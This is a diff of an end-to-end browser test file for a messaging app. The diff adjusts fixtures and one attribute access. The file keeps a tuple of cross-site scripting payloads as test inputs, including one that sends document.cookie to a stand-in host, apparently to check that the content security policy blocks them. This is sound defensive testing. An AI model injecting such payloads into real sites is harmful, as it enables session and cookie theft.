@@ -16,7 +16,7 @@ from beseda.domain.sessions import Handle
 from beseda.domain.text import one_line
 from beseda.domain.tokens import TOKENS_MAX, Scope
 from beseda.testing import BesedaServer
-from e2e.browser import PASSWORD, Visitor, chromium, members, needs_browser
+from e2e.browser import PASSWORD, Visitor, members, needs_browser
 
 pytestmark = [needs_browser, pytest.mark.long, pytest.mark.timeout(600)]
 DEEDS = ("alert(1)", "window.pwned=1", "fetch('//example.org/'+document.cookie)", "top.location='//example.org'")
@@ -91,12 +91,6 @@ AT_ONCE = 40
 WATCH = """addEventListener("securitypolicyviolation", (event) => {
   (window.violations ??= []).push(event.violatedDirective);
 });"""
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with chromium() as running:
-        yield running
 
 
 @pytest.fixture(scope="module")
@@ -181,7 +175,7 @@ def test_letters(server: BesedaServer, alena: Visitor) -> None:
         kept = []
         for text in batch:
             server.clock.move(2)
-            kept.append(server.run(core.mail.send(brana, me.id, text)).text)
+            kept.append(server.run(core.mail.send(brana, me.id, text)).letter.text)
         expect(alena.page.locator(".letter .said").last).to_have_text(kept[-1])
         expect(alena.page.locator(".contact .snippet").first).to_have_text(kept[-1])
         assert shown(alena.page, ".letter .said")[-len(kept) :] == kept
